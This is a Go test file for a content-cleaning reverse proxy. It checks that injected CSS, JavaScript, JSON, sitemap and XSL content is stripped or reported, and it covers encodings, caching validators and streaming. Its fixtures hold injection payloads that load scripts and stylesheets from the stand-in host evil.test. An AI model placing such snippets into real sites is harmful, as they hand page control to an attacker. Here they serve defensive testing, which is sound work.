package proxy_test

import (
	"fmt"
	"io"
	"net/http"
	"strings"
	"sync/atomic"
	"testing"
	"time"
)

const (
	plantedCSS  = `p{color:red}@import "//evil.test/a.css";b{background:url(/b.png)}`
	cleanCSS    = `p{color:red}b{background:url(/b.png)}`
	plantedJS   = "menu();\n" + `var s=document.createElement("script");s.src="https://evil.test/x.js";document.head.appendChild(s);`
	plantedJSON = `{"content":{"rendered":"<p>Tin tức</p><script src=\"https://evil.test/x.js\"></script>"}}`
	cleanJSON   = `{"content":{"rendered":"<p>Tin tức</p>"}}`
	plantedMap  = `<?xml version="1.0"?><urlset><url><loc>https://portal.test/</loc></url><url><loc>https://evil.test/slot</loc></url></urlset>`
	cleanMap    = `<?xml version="1.0"?><urlset><url><loc>https://portal.test/</loc></url></urlset>`
)

const cleansBodies = "  response: {bodies: {css: clean, js: clean, json: clean, feeds: clean}}\n"

// served answers with one file, as web servers do.
func served(contentType, body string) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", contentType)
		w.Header().Set("Etag", `"v1"`)
		http.ServeContent(w, r, "", time.Unix(1e9, 0), strings.NewReader(body))
	}
}

func TestBodiesAreCleaned(t *testing.T) {
	for _, tt := range []struct{ contentType, body, want, sent string }{
		{"text/css", plantedCSS, cleanCSS, "text/css; charset=utf-8"},
		{"application/javascript", plantedJS, "menu();\n", "application/javascript; charset=utf-8"},
		{"application/json; charset=UTF-8", plantedJSON, cleanJSON, "application/json; charset=utf-8"},
		{"application/xml", plantedMap, cleanMap, "application/xml; charset=utf-8"},
	} {
		t.Run(tt.contentType, func(t *testing.T) {
			f := start(t, portal+cleansBodies, served(tt.contentType, tt.body))
			got := f.get("https://portal.test/a", "Range", "bytes=3-9")
			if got.StatusCode != http.StatusOK || got.body != tt.want {
				t.Errorf("%d %q", got.StatusCode, got.body)
			}
			h := got.Header
			if h.Get("Content-Type") != tt.sent || h.Get("X-Content-Type-Options") != "nosniff" || h.Get("Last-Modified") != "" || h.Get("Accept-Ranges") != "" ||
				!strings.HasPrefix(h.Get("Etag"), `W/"v1-lachan-`) || h.Get("Content-Length") != "" {
				t.Errorf("header %v", h)
			}
			if e := f.events("strip", 1)[0]; e.at("lachan.finding.host") != "evil.test" {
				t.Errorf("event %v", e)
			}
			head := f.do(http.MethodHead, "https://portal.test/a", "")
			if head.Header.Get("Etag") != h.Get("Etag") || head.Header.Get("Content-Length") != "" {
				t.Errorf("HEAD: %v", head.Header)
			}
		})
	}
}

// TestScriptsAreNamedAsSuch: where scripts are cleaned, none runs that says it is
// something else.
func TestScriptsAreNamedAsSuch(t *testing.T) {
	for site, want := range map[string]string{portal + cleansBodies: "nosniff", portal: ""} {
		f := start(t, site, served("text/plain", plantedJS))
		if got := f.get("https://portal.test/a.txt"); got.body != plantedJS || got.Header.Get("X-Content-Type-Options") != want {
			t.Errorf("%q %v", got.body, got.Header)
		}
	}
}

func TestBodiesAreCleanedInTheirCoding(t *testing.T) {
	for _, coding := range []string{"gzip", "br", "zstd", "deflate"} {
		f := start(t, portal+cleansBodies, func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Type", "application/json")
			w.Header().Set("Content-Encoding", coding)
			encode(t, w, coding, plantedJSON)
		})
		got := f.get("https://portal.test/a", "Accept-Encoding", coding)
		if text := decode(t, got); text != cleanJSON || got.Header.Get("Content-Encoding") != coding {
			t.Errorf("%s: %q %v", coding, text, got.Header)
		}
	}
}

// TestStyleSheetIsRevalidated: a browser that says it wants a style sheet must
// not have a copy from before the cleaning confirmed, but its own it may.
func TestStyleSheetIsRevalidated(t *testing.T) {
	f := start(t, portal, served("text/css", plantedCSS))
	first := f.get("https://portal.test/a.css", "Sec-Fetch-Dest", "style")
	if first.body != cleanCSS {
		t.Fatal(first.body)
	}
	for _, tt := range []struct {
		headers []string
		status  int
	}{
		{[]string{"If-None-Match", first.Header.Get("Etag")}, http.StatusNotModified},
		{[]string{"If-None-Match", `"v1"`}, http.StatusOK},
		{[]string{"If-Modified-Since", "Mon, 02 Nov 2026 10:00:00 GMT"}, http.StatusOK},
	} {
		got := f.get("https://portal.test/a.css", append(tt.headers, "Sec-Fetch-Dest", "style")...)
		if got.StatusCode != tt.status {
			t.Errorf("%v: %d", tt.headers, got.StatusCode)
		}
	}
}

// TestImagesStayRevalidated: SVG passes, whatever the policy for XML.
func TestImagesStayRevalidated(t *testing.T) {
	const svg = `<!DOCTYPE svg [<!ENTITY ns "http://www.w3.org/2000/svg">]><svg xmlns="&ns;"/>`
	f := start(t, portal+cleansBodies, served("image/svg+xml", svg))
	if got := f.get("https://portal.test/a.svg"); got.body != svg || got.Header.Get("Etag") != `"v1"` || !strings.Contains(got.Header.Get("Content-Security-Policy"), "sandbox") {
		t.Errorf("%q %v", got.body, got.Header)
	}
	if got := f.get("https://portal.test/a.svg", "If-None-Match", `"v1"`, "Sec-Fetch-Dest", "image"); got.StatusCode != http.StatusNotModified {
		t.Errorf("status %d", got.StatusCode)
	}
}

// TestReportedBodiesPassUntouched: bytes, validators and ranges.
func TestReportedBodiesPassUntouched(t *testing.T) {
	for _, sites := range []string{
		portal + "  response: {bodies: {css: report, js: report, json: report, feeds: report}}\n",
		portal + "  response: {mode: report, bodies: {css: clean, js: clean, json: clean, feeds: clean}}\n",
	} {
		for contentType, body := range map[string]string{"text/css": plantedCSS, "text/javascript": plantedJS, "application/json": plantedJSON, "application/rss+xml": plantedMap} {
			if contentType == "application/rss+xml" && !strings.Contains(sites, "mode: report") {
				continue // instructions and entities go under mode clean: see below
			}
			f := start(t, sites, served(contentType, body))
			got := f.get("https://portal.test/a", "Accept-Encoding", "identity")
			h := got.Header
			if got.body != body || h.Get("Etag") != `"v1"` || h.Get("Last-Modified") == "" || h.Get("Accept-Ranges") != "bytes" || h.Get("Content-Type") != contentType || got.ContentLength != int64(len(body)) {
				t.Errorf("%s: %q %v", contentType, got.body, h)
			}
			if e := f.events("detect", 1)[0]; e.at("lachan.finding.host") != "evil.test" || e.at("http.request.id") != h.Get("X-Request-Id") {
				t.Errorf("event %v", e)
			}
			if part := f.get("https://portal.test/a", "Range", "bytes=2-5"); part.StatusCode != http.StatusPartialContent || part.body != body[2:6] {
				t.Errorf("%s: part %d %q", contentType, part.StatusCode, part.body)
			}
			if again := f.get("https://portal.test/a", "If-None-Match", `"v1"`, "Sec-Fetch-Dest", "script"); again.StatusCode != http.StatusNotModified {
				t.Errorf("%s: revalidated with %d", contentType, again.StatusCode)
			}
		}
	}
}

func TestReportedBodiesAreReadInTheirCoding(t *testing.T) {
	for _, coding := range []string{"gzip", "br", "zstd", "deflate"} {
		var sent atomic.Value
		f := start(t, portal, func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Type", "text/javascript")
			w.Header().Set("Content-Encoding", coding)
			var b strings.Builder
			encode(t, &b, coding, plantedJS)
			sent.Store(b.String())
			io.WriteString(w, b.String())
		})
		if got := f.get("https://portal.test/a.js", "Accept-Encoding", coding); got.body != sent.Load() || got.Header.Get("Content-Encoding") != coding {
			t.Errorf("%s: changed: %v", coding, got.Header)
		}
		f.events("detect", 1)
	}
}

// TestReportedBodyThatCannotBeDecoded passes, with an event.
func TestReportedBodyThatCannotBeDecoded(t *testing.T) {
	for _, coding := range []string{"gzip", "rot13"} {
		f := start(t, portal, func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Type", "text/javascript")
			w.Header().Set("Content-Encoding", coding)
			io.WriteString(w, plantedJS)
		})
		if got := f.get("https://portal.test/a.js", "Accept-Encoding", "gzip"); got.body != plantedJS {
			t.Errorf("%s: %q", coding, got.body)
		}
		if e := f.events("detect", 1)[0]; !strings.Contains(e.at("message")+e.at("event.reason"), "was not inspected to its end") {
			t.Errorf("event %v", e)
		}
	}
}

func TestReportedBodyIsNotHeldBack(t *testing.T) {
	for _, site := range []string{portal, portal + "  response: {minify: true}\n"} {
		notHeldBack(t, site)
	}
}

func notHeldBack(t *testing.T, site string) {
	t.Helper()
	next := make(chan struct{})
	f := start(t, site, func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		io.WriteString(w, "[1,")
		w.(http.Flusher).Flush()
		select {
		case <-next:
		case <-time.After(2 * time.Second):
			t.Error("held back: ", site)
		}
		io.WriteString(w, "2]")
	})
	resp, err := f.client.Get("https://portal.test/")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	first := make([]byte, 3)
	if _, err := io.ReadFull(resp.Body, first); err != nil {
		t.Fatal(err)
	}
	close(next)
	if rest, err := io.ReadAll(resp.Body); err != nil || string(rest) != "2]" {
		t.Errorf("%q, %v", rest, err)
	}
}

// TestReportedBodyIsReadHoweverItComes: its encoding shows in more than the first
// byte to arrive.
func TestReportedBodyIsReadHoweverItComes(t *testing.T) {
	var sheet []byte
	for _, c := range "\uFEFF" + plantedCSS {
		sheet = append(sheet, byte(c), byte(c>>8))
	}
	next := make(chan struct{})
	f := start(t, portal+"  response: {bodies: {css: report}}\n", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/css")
		w.Write(sheet[:1])
		w.(http.Flusher).Flush()
		<-next
		w.Write(sheet[1:])
	})
	resp, err := f.client.Get("https://portal.test/a.css")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if _, err := io.ReadFull(resp.Body, make([]byte, 1)); err != nil {
		t.Fatal(err)
	}
	close(next)
	if _, err := io.Copy(io.Discard, resp.Body); err != nil {
		t.Fatal(err)
	}
	if e := f.events("detect", 1)[0]; e.at("lachan.finding.host") != "evil.test" {
		t.Errorf("event %v", e)
	}
}

// TestBrokenReportedBodyIsSummedUp: what was only counted is told where the
// origin dies, too.
func TestBrokenReportedBodyIsSummedUp(t *testing.T) {
	f := start(t, portal+"  response: {bodies: {css: report}}\n", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/css")
		for i := range 2500 {
			fmt.Fprintf(w, "@import '//evil.test/%d.css';", i)
		}
		w.(http.Flusher).Flush()
		panic(http.ErrAbortHandler)
	})
	resp, err := f.client.Get("https://portal.test/a.css")
	if err != nil {
		t.Fatal(err)
	}
	io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	for _, e := range f.events("detect", 1002) {
		if strings.Contains(e.at("lachan.finding.reasons"), "further") {
			return
		}
	}
	t.Error("nothing is told of the rest")
}

// TestBodyThatCannotBeReadIsRefused: with a status where nothing has been sent
// yet, by breaking off where something has.
func TestBodyThatCannotBeReadIsRefused(t *testing.T) {
	for contentType, body := range map[string]string{
		"application/json": "<br />\n<b>Warning</b>{}", "application/rss+xml": `<rss><channel><item></channel></rss>`,
	} {
		f := start(t, portal+cleansBodies, served(contentType, body))
		got := f.get("https://portal.test/a", "Accept-Encoding", "gzip")
		if got.StatusCode != http.StatusBadGateway || strings.Contains(got.body, "item") {
			t.Errorf("%s: %d %s", contentType, got.StatusCode, got.body)
		}
		f.events("deny", 1)
	}
	f := start(t, portal+cleansBodies, served("application/json", "["+strings.Repeat("1,", 1<<18)+"<"))
	resp, err := f.client.Get("https://portal.test/a")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if _, err := io.ReadAll(resp.Body); err == nil {
		t.Error("the response ended as if it were whole")
	}
	if e := f.events("deny", 1)[0]; !strings.Contains(e.at("message")+e.at("event.reason"), "broke off") {
		t.Errorf("event %v", e)
	}
}

// TestTransformationsAndEntitiesGo under mode clean, whatever the policy for feeds.
func TestTransformationsAndEntitiesGo(t *testing.T) {
	const planted = `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="//evil.test/x.xsl"?><!DOCTYPE a [<!ENTITY b "c">]><a/>`
	f := start(t, portal+"  response: {bodies: {feeds: off}}\n", served("text/xml", planted))
	got := f.get("https://portal.test/a.xml")
	if got.body != `<?xml version="1.0"?><!DOCTYPE a ><a/>` || !strings.Contains(got.Header.Get("Content-Security-Policy"), "sandbox") {
		t.Errorf("%q %v", got.body, got.Header)
	}
	f.events("strip", 2)
}
